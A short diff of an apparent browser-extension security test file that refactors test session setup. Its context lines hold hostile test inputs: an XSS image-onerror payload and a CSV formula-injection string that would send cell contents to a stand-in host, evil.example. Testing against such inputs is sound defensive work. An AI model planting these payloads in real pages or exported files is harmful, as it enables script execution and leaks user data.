@@ -4,9 +4,9 @@
 // content script's world), and exported CSV cells cannot be read as formulas.
 import { readFileSync } from 'node:fs';
 import Papa from 'papaparse';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import type { Page } from 'playwright-core';
-import { evaluateInContentScript, launch, type Session } from './launch';
+import { evaluateInContentScript, sessionPerFile, type Session } from './launch';
 import { OurUi, SHARE } from './our-ui';
 
 const IMG = '<img src=x onerror="globalThis.__pwned=1">';
@@ -19,12 +19,7 @@ const ADA = '/in/ada-sample-42';
 const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")';
 
 let session: Session;
-beforeAll(async () => {
-  session = await launch();
-});
-afterAll(async () => {
-  await session?.close();
-});
+sessionPerFile((started) => (session = started));
 
 /** What a payload could have become on a page, shadow roots included, and whether it ran. */
 /** What hostile text could have become, anywhere, our closed roots included (read through CDP). */
